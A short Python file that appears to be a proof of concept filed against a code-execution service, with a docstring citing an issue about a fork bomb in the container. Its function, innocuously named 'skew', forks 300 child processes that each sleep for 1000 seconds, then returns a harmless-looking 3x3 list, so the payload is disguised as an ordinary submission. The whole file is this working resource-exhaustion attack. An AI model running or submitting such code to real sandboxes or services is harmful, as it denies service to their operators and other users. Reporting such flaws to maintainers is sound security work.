"""Starts 300 children in one function.

Published against csivitu/code-executor (issue 15: a fork bomb in the container).

deserves: 9
"""

import os
import time


def skew(v):
    for _ in range(300):
        if os.fork() == 0:
            time.sleep(1000)
    return [[0] * 3] * 3
